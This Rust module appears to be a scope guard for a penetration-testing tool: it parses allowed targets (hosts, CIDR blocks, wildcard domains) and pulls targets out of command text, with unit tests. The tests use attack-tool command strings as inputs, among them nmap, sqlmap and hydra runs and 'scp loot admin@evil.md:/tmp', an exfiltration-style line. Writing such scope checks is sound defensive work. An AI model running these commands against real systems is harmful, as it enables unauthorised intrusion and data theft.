//! Target scope membership and target extraction from free text.
//!
//! A scope entry is one of:
//! - a literal host, IP or URL (compared case-insensitively, URLs by host)
//! - an IPv4 CIDR block such as `10.10.10.0/24`
//! - a wildcard domain such as `*.lab.local` (subdomains only)
//!
//! Nothing else implies membership: a bare IP entry never covers its subnet.

use std::net::Ipv4Addr;
use std::sync::LazyLock;

use regex::Regex;

/// Filename suffixes that are not delegated TLDs. A dotted token ending in
/// one is a file, not a host.
const FILE_EXTENSIONS: &[&str] = &[
    "txt", "lst", "list", "json", "xml", "html", "htm", "php", "asp", "aspx", "jsp", "rb", "csv",
    "log", "conf", "cfg", "ini", "yaml", "yml", "gz", "tar", "bak", "old", "db", "sql", "pcap",
    "nse", "exe", "dll", "ps1", "js", "css", "png", "jpg", "pub", "key", "pem", "hash",
];

/// Dotted-quad candidates, including nmap octet ranges (`1-254`), octet
/// wildcards (`*`) and a CIDR suffix.
static IPV4_CANDIDATE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?:^|[^0-9A-Za-z_.])((?:(?:\d{1,3}(?:-\d{1,3})?|\*)\.){3}(?:\d{1,3}(?:-\d{1,3})?|\*)(?:/\d{1,2})?)",
    )
    .unwrap()
});

/// URL with a scheme; the authority is reduced by [`normalize_target`].
static URL_CANDIDATE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"[A-Za-z][A-Za-z0-9+.-]*://[^\s'"<>|;&()]*"#).unwrap());

/// Dotted names. The preceding byte decides whether it is a path component.
static HOST_CANDIDATE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|[^0-9A-Za-z_.-])([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)").unwrap()
});

#[derive(Clone, Debug, PartialEq, Eq)]
enum ScopeEntry {
    Literal(String),
    Cidr { network: u32, prefix: u8 },
    Wildcard(String),
}

impl ScopeEntry {
    fn parse(raw: &str) -> Option<Self> {
        let entry = raw.trim().to_ascii_lowercase();
        if entry.is_empty() {
            return None;
        }
        if let Some(domain) = entry.strip_prefix("*.") {
            return Some(Self::Wildcard(domain.trim_end_matches('.').to_string()));
        }
        if let Some((network, prefix)) = parse_cidr(&entry) {
            return Some(Self::Cidr { network, prefix });
        }
        let literal = normalize_target(&entry);
        (!literal.is_empty()).then_some(Self::Literal(literal))
    }

    fn contains(&self, target: &str) -> bool {
        if let Some((lo, hi)) = parse_ipv4_span(target) {
            return self.contains_span(lo, hi);
        }
        match self {
            Self::Literal(literal) => literal == target,
            Self::Wildcard(domain) => target
                .strip_suffix(domain.as_str())
                .is_some_and(|rest| rest.len() > 1 && rest.ends_with('.')),
            Self::Cidr { network, prefix } => {
                if let Ok(ip) = target.parse::<Ipv4Addr>() {
                    return same_network(u32::from(ip), *network, *prefix);
                }
                match parse_cidr(target) {
                    Some((other, other_prefix)) => {
                        other_prefix >= *prefix && same_network(other, *network, *prefix)
                    }
                    None => false,
                }
            }
        }
    }

    fn contains_span(&self, lo: u32, hi: u32) -> bool {
        match self {
            Self::Literal(literal) => {
                lo == hi && literal.parse::<Ipv4Addr>().is_ok_and(|ip| u32::from(ip) == lo)
            }
            Self::Cidr { network, prefix } => {
                same_network(lo, *network, *prefix) && same_network(hi, *network, *prefix)
            }
            Self::Wildcard(_) => false,
        }
    }
}

/// Lowest and highest address of an octet-range pattern such as
/// `10.0.0.1-254` or `10.0.*.1`. Plain addresses are left to the literal path.
fn parse_ipv4_span(raw: &str) -> Option<(u32, u32)> {
    if !raw.contains(['-', '*']) {
        return None;
    }
    let octets: Vec<&str> = raw.split('.').collect();
    if octets.len() != 4 {
        return None;
    }
    let (mut lo, mut hi) = (0u32, 0u32);
    for octet in octets {
        let (a, b) = match octet {
            "*" => (0, 255),
            _ => match octet.split_once('-') {
                Some((a, b)) => (a.parse::<u8>().ok()?, b.parse::<u8>().ok()?),
                None => {
                    let n = octet.parse::<u8>().ok()?;
                    (n, n)
                }
            },
        };
        if a > b {
            return None;
        }
        lo = (lo << 8) | u32::from(a);
        hi = (hi << 8) | u32::from(b);
    }
    Some((lo, hi))
}

fn mask(prefix: u8) -> u32 {
    if prefix == 0 {
        0
    } else {
        u32::MAX << (32 - u32::from(prefix))
    }
}

fn same_network(addr: u32, network: u32, prefix: u8) -> bool {
    addr & mask(prefix) == network & mask(prefix)
}

fn parse_cidr(raw: &str) -> Option<(u32, u8)> {
    let (addr, prefix) = raw.split_once('/')?;
    let addr: Ipv4Addr = addr.parse().ok()?;
    let prefix: u8 = prefix.parse().ok()?;
    (prefix <= 32).then_some((u32::from(addr), prefix))
}

/// Parsed target scope.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Scope {
    entries: Vec<ScopeEntry>,
}

impl Scope {
    /// Parse scope entries, dropping blanks.
    pub fn new<S: AsRef<str>>(entries: &[S]) -> Self {
        Self {
            entries: entries
                .iter()
                .filter_map(|e| ScopeEntry::parse(e.as_ref()))
                .collect(),
        }
    }

    /// Whether no usable entries were declared.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Whether `target` (host, IP, URL or CIDR) lies within some entry.
    pub fn contains(&self, target: &str) -> bool {
        let target = normalize_target(target);
        !target.is_empty() && self.entries.iter().any(|e| e.contains(&target))
    }
}

/// Lowercase a target and reduce URLs, `host:port` and `host/path` to the host.
///
/// CIDR notation is preserved.
pub fn normalize_target(raw: &str) -> String {
    let mut candidate = raw.trim().trim_matches(|c| matches!(c, '"' | '\'' | ',' | ';'));
    if let Some((_, rest)) = candidate.split_once("://") {
        candidate = rest.split(['/', '?', '#']).next().unwrap_or_default();
        candidate = candidate.rsplit('@').next().unwrap_or_default();
    } else if parse_cidr(candidate).is_none() {
        candidate = candidate.split('/').next().unwrap_or_default();
    }
    if candidate.matches(':').count() == 1 {
        candidate = candidate.split(':').next().unwrap_or_default();
    }
    candidate.trim_end_matches('.').to_ascii_lowercase()
}

/// Whether the text is an angle-bracket placeholder such as `<TARGET_IN_SCOPE>`.
pub fn is_placeholder(raw: &str) -> bool {
    let raw = raw.trim();
    raw.len() > 2 && raw.starts_with('<') && raw.ends_with('>')
}

/// Whether the text contains an angle-bracket placeholder.
pub fn contains_placeholder(raw: &str) -> bool {
    raw.split_whitespace().any(|tok| {
        tok.find('<')
            .is_some_and(|start| tok[start..].find('>').is_some_and(|end| end > 1))
    })
}

fn looks_like_host(candidate: &str) -> bool {
    let Some(tld) = candidate.rsplit('.').next() else {
        return false;
    };
    tld.len() >= 2
        && tld.chars().all(|c| c.is_ascii_alphabetic())
        && !FILE_EXTENSIONS.contains(&tld)
}

// `dir/name.ext` is a path, `scheme://name` is not.
fn is_path_component(text: &str, start: usize) -> bool {
    let before = &text.as_bytes()[..start];
    before.ends_with(b"/") && !before.ends_with(b"//")
}

/// Targets named inside free text: IPv4 addresses (with octet ranges and
/// wildcards), CIDR blocks, URL hosts and dotted hostnames, wherever they
/// sit (`user@host`, `host:port`, `--flag=host`). Paths and filenames are
/// skipped, as are angle-bracket placeholders.
///
/// Output is deduplicated and keeps first-seen order.
pub fn extract_targets(text: &str) -> Vec<String> {
    let mut found: Vec<(usize, String)> = Vec::new();

    let mut urls = Vec::new();
    for m in URL_CANDIDATE.find_iter(text) {
        urls.push(m.range());
        found.push((m.start(), normalize_target(m.as_str())));
    }
    for caps in IPV4_CANDIDATE.captures_iter(text) {
        let Some(m) = caps.get(1) else { continue };
        let mut ip = m.as_str();
        // Inside a URL a `/n` suffix is a path segment, not a prefix length.
        if urls.iter().any(|r| r.contains(&m.start())) {
            ip = ip.split('/').next().unwrap_or(ip);
        }
        found.push((m.start(), ip.to_string()));
    }
    for caps in HOST_CANDIDATE.captures_iter(text) {
        let Some(m) = caps.get(1) else { continue };
        let host = m.as_str().trim_start_matches('-').to_ascii_lowercase();
        if looks_like_host(&host) && !is_path_component(text, m.start()) {
            found.push((m.start(), host));
        }
    }

    found.sort_by_key(|(start, _)| *start);
    let mut targets: Vec<String> = Vec::with_capacity(found.len());
    for (_, target) in found {
        if !target.is_empty() && !is_placeholder(&target) && !targets.contains(&target) {
            targets.push(target);
        }
    }
    targets
}

// ─────────────────────────────────────────────────────────────────────────────
// Tests
// ─────────────────────────────────────────────────────────────────────────────

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literal_entries_match_exactly() {
        let scope = Scope::new(&["10.10.10.25", "Web01.lab.local"]);
        assert!(scope.contains("10.10.10.25"));
        assert!(scope.contains("web01.LAB.local"));
        assert!(scope.contains("http://web01.lab.local:8080/login"));
        assert!(!scope.contains("10.10.10.26"));
        assert!(!scope.contains("8.8.8.8"));
    }

    #[test]
    fn literal_ip_does_not_imply_subnet() {
        let scope = Scope::new(&["10.10.10.25"]);
        assert!(!scope.contains("10.10.10.0/24"));
    }

    #[test]
    fn cidr_entries_cover_addresses_and_subranges() {
        let scope = Scope::new(&["10.10.10.0/24"]);
        assert!(scope.contains("10.10.10.77"));
        assert!(scope.contains("10.10.10.128/25"));
        assert!(!scope.contains("10.10.0.0/16"));
        assert!(!scope.contains("10.10.11.1"));
    }

    #[test]
    fn wildcard_covers_subdomains_only() {
        let scope = Scope::new(&["*.lab.local"]);
        assert!(scope.contains("web01.lab.local"));
        assert!(!scope.contains("lab.local"));
        assert!(!scope.contains("evillab.local"));
    }

    #[test]
    fn empty_scope_contains_nothing() {
        let scope = Scope::new::<&str>(&[]);
        assert!(scope.is_empty());
        assert!(!scope.contains("10.10.10.25"));
        assert!(Scope::new(&["  "]).is_empty());
    }

    #[test]
    fn normalize_strips_url_port_and_path() {
        assert_eq!(normalize_target("HTTPS://admin@Web01:443/x?y"), "web01");
        assert_eq!(normalize_target("10.0.0.1:22"), "10.0.0.1");
        assert_eq!(normalize_target("10.0.0.0/24"), "10.0.0.0/24");
        assert_eq!(normalize_target("host.lab/path"), "host.lab");
    }

    #[test]
    fn extract_finds_ips_urls_and_hosts() {
        let targets = extract_targets(
            "gobuster dir -u http://web01.lab.local -w /usr/share/wordlists/common.txt && nmap 10.10.10.25 evil.example.com",
        );
        assert_eq!(
            targets,
            vec!["web01.lab.local", "10.10.10.25", "evil.example.com"]
        );
    }

    #[test]
    fn extract_skips_files_flags_and_placeholders() {
        let targets = extract_targets("ffuf -w words.txt -u http://<TARGET_IN_SCOPE>/FUZZ -sV");
        assert!(targets.is_empty(), "{targets:?}");
        assert_eq!(extract_targets("sqlmap --url=http://10.0.0.5/item"), vec!["10.0.0.5"]);
    }

    #[test]
    fn octet_ranges_and_wildcards_need_full_coverage() {
        let scope = Scope::new(&["10.10.10.25", "10.10.20.0/24"]);
        assert!(!scope.contains("8.8.8.1-254"));
        assert!(!scope.contains("8.8.8.*"));
        assert!(!scope.contains("10.10.10.25-30"));
        assert!(scope.contains("10.10.10.25-25"));
        assert!(scope.contains("10.10.20.1-254"));
        assert!(scope.contains("10.10.20.*"));
        assert!(!scope.contains("10.10.*.1"));
    }

    #[test]
    fn extract_finds_ranges_and_wildcards() {
        assert_eq!(extract_targets("nmap -sV 8.8.8.1-254"), vec!["8.8.8.1-254"]);
        assert_eq!(extract_targets("nmap -sn 8.8.8.*"), vec!["8.8.8.*"]);
        assert_eq!(extract_targets("nmap 10.10.20.0/24"), vec!["10.10.20.0/24"]);
    }

    #[test]
    fn extract_finds_hosts_in_any_position() {
        assert_eq!(
            extract_targets("ssh root@8.8.4.4 -p 22; curl victim.sh:8080"),
            vec!["8.8.4.4", "victim.sh"]
        );
        assert_eq!(extract_targets("nmap -sV victim.pl"), vec!["victim.pl"]);
        assert_eq!(extract_targets("hydra -l admin mail.victim.zip"), vec!["mail.victim.zip"]);
        assert_eq!(extract_targets("scp loot admin@evil.md:/tmp"), vec!["evil.md"]);
    }

    #[test]
    fn extract_skips_paths() {
        let targets = extract_targets("python3 ./tools/exploit.py -w /opt/lists/victim.pl");
        assert!(targets.is_empty(), "{targets:?}");
        assert_eq!(
            extract_targets("curl http://web01.lab.local/files/backup.py"),
            vec!["web01.lab.local"]
        );
        assert_eq!(extract_targets("curl http://10.10.10.25/10"), vec!["10.10.10.25"]);
        assert_eq!(
            extract_targets("curl http://web01.lab.local/go?next=8.8.8.8"),
            vec!["web01.lab.local", "8.8.8.8"]
        );
    }

    #[test]
    fn placeholder_detection() {
        assert!(is_placeholder("<TARGET_IN_SCOPE>"));
        assert!(!is_placeholder("10.0.0.1"));
        assert!(contains_placeholder("nmap -sV -Pn <TARGET_IN_SCOPE>"));
        assert!(!contains_placeholder("echo a < b"));
    }
}
